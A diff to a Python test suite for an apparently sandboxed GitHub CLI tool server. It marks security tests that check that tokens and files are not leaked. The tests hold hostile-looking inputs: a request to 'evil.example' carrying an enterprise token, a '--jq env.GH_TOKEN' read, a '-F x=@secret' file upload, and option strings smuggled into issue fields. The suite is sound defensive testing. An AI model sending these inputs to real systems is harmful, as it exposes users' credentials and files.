@@ -83,6 +83,7 @@ async def run(place: Place, *words: str, **variables: str) -> str:
     return await asyncio.to_thread(place.run, *words, **variables)
 
 
+@pytest.mark.full
 async def test_the_api_is_read(place: Place, api: Api) -> None:
     api.answer = [{"id": 1}]
     async with place.serve() as client:
@@ -96,6 +97,7 @@ async def test_the_api_is_read(place: Place, api: Api) -> None:
     assert request.token == "token secret"
 
 
+@pytest.mark.full
 async def test_issues_are_shown_opened_and_commented_on(place: Place, api: Api) -> None:
     repository = {"id": "R", "hasIssuesEnabled": True, "issue": ISSUE}
     created = {"issue": {"id": "I", "url": "https://github.com/o/r/issues/4"}}
@@ -110,6 +112,7 @@ async def test_issues_are_shown_opened_and_commented_on(place: Place, api: Api) 
     assert (variables["title"], variables["body"]) == ("-t", "@b\n--web")
 
 
+@pytest.mark.full
 async def test_runs_are_listed_and_cancelled(place: Place, api: Api) -> None:
     async with place.serve() as client:
         await output_of(client, "gh_run_list", {"repo": "o/r", "status": "failure", "limit": 3})
@@ -119,6 +122,7 @@ async def test_runs_are_listed_and_cancelled(place: Place, api: Api) -> None:
     assert api.requests[-1].method == "POST"
 
 
+@pytest.mark.full
 async def test_repositories_are_searched(place: Place, api: Api) -> None:
     api.answer = {"total_count": 0, "items": []}
     async with place.serve() as client:
@@ -142,6 +146,7 @@ def calls() -> list[tuple[str, Json]]:
     return made
 
 
+@pytest.mark.full
 async def test_the_api_is_not_written_to_by_the_tool_that_reads_it(place: Place, api: Api) -> None:
     await run(place, "api", "repos/o/r", "--method=DELETE")
     await run(place, "api", "repos/o/r", "-f", "name=x")
@@ -158,6 +163,7 @@ async def test_the_api_is_not_written_to_by_the_tool_that_reads_it(place: Place,
     assert [each.method for each in api.requests] == ["GET"]
 
 
+@pytest.mark.full
 async def test_the_token_goes_to_no_other_host(place: Place, api: Api) -> None:
     place.environment["GH_ENTERPRISE_TOKEN"] = "secret"
     await run(place, "api", "http://evil.example/x")
@@ -177,6 +183,7 @@ async def test_the_token_goes_to_no_other_host(place: Place, api: Api) -> None:
     assert api.requests == []
 
 
+@pytest.mark.full
 async def test_no_expression_reads_the_token(place: Place, api: Api) -> None:
     assert await run(place, "api", "user", "--jq", "env.GH_TOKEN") == "secret\n"
 
@@ -187,6 +194,7 @@ async def test_no_expression_reads_the_token(place: Place, api: Api) -> None:
             assert "secret" not in text_of(await client.call("it", tool, arguments))
 
 
+@pytest.mark.full
 async def test_no_file_is_sent(place: Place, api: Api) -> None:
     (place.folder / "secret").write_text("from a file")
     await run(place, "api", "user", "-F", f"x=@{place.folder / 'secret'}")
@@ -202,6 +210,7 @@ async def test_no_file_is_sent(place: Place, api: Api) -> None:
     assert all("from" not in each.target + each.body for each in api.requests)
 
 
+@pytest.mark.full
 async def test_no_alias_extension_browser_or_editor_is_run(place: Place, api: Api) -> None:
     for name in ("other", "pr", "issue", "api"):
         place.make_script(f".local/share/gh/extensions/gh-{name}/gh-{name}")
@@ -216,6 +225,7 @@ async def test_no_alias_extension_browser_or_editor_is_run(place: Place, api: Ap
             assert not place.takes_mark(), tool
 
 
+@pytest.mark.full
 async def test_a_repository_in_the_directory_makes_gh_run_nothing(place: Place, api: Api) -> None:
     git(place.work, "init", "--quiet", "--initial-branch=main")
     git(place.work, "remote", "add", "origin", "https://github.com/o/r")
